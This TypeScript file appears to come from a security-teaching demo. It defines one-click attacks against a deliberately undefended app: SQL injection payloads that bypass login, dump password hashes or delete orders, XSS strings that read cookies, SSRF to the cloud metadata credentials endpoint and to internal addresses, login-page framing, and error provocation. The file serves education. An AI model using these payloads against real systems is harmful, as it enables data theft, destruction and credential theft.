import { allPlaces } from '../attack/all-attacks.ts';
import type { Place } from '../attack/attack.ts';

/** An attack that one click fires. */
export interface Famous {
  readonly title: string;
  readonly says: string;
  readonly place: Place;
  readonly payload: string;
}

const attacks: readonly (readonly [
  group: Place['group'],
  endpoint: string,
  title: string,
  payload: string,
  says: string,
])[] = [
  [
    'SQL injection',
    'POST login email',
    'Log in without a password',
    "admin@example.com' --",
    'The rest of the statement becomes a comment.',
  ],
  [
    'SQL injection',
    'GET products category',
    'Read every password hash',
    "' union select id, email, password, 0 from users --",
    'A second query puts its rows into the page.',
  ],
  [
    'SQL injection',
    'GET products min',
    'Delete the orders',
    '0; delete from orders; --',
    'A second statement rides along.',
  ],
  [
    'XSS',
    'GET search q',
    'Run a script by a link',
    '<script>alert(document.domain)</script>',
    'The page repeats the search term.',
  ],
  [
    'XSS',
    'GET comments content',
    'Leave a script in a comment',
    '<img src="x" onerror="fetch(\'/admin/users\')">',
    'It runs for everybody who reads it.',
  ],
  [
    'XSS',
    'GET profile website',
    'Hide a script in a link',
    "javascript:alert('Session: ' + document.cookie)",
    'Escaping does not help: the URL itself is code.',
  ],
  [
    'XSS',
    'GET hello data',
    'Reach the page\u2019s own script',
    '<img src="x" onerror="alert(1)">',
    'The server never sees it: innerHTML does it all.',
  ],
  [
    'SSRF',
    'POST preview url',
    'Steal cloud credentials',
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'The server can reach what you cannot.',
  ],
  [
    'SSRF',
    'POST api/preview url',
    'Get inside by a redirect',
    'http://news.example.com/to?http%3A%2F%2F10.0.0.5%2Fadmin',
    'The URL that was checked is not the one that answers.',
  ],
  [
    'SSRF',
    'POST preview url',
    'Write 127.0.0.1 as a number',
    'http://2130706433/',
    'No blocklist knows every spelling.',
  ],
  [
    'Framing',
    'GET login',
    'Frame the login page',
    '<iframe src=".../login">',
    'The victim clicks on a page that they cannot see.',
  ],
  ['Error details', 'POST api/preview', 'Get a stack trace', '{broken', 'It is a map of the server.'],
];

/** One of each kind that people know, all of which land on the undefended application. */
export const famous: readonly Famous[] = attacks.map(([group, endpoint, title, payload, says]) => {
  const place = allPlaces.find((one) => one.group === group && one.endpoint === endpoint);
  if (!place) throw new Error(`There is no place ${group} ${endpoint}.`);
  return { title, says, place, payload };
});
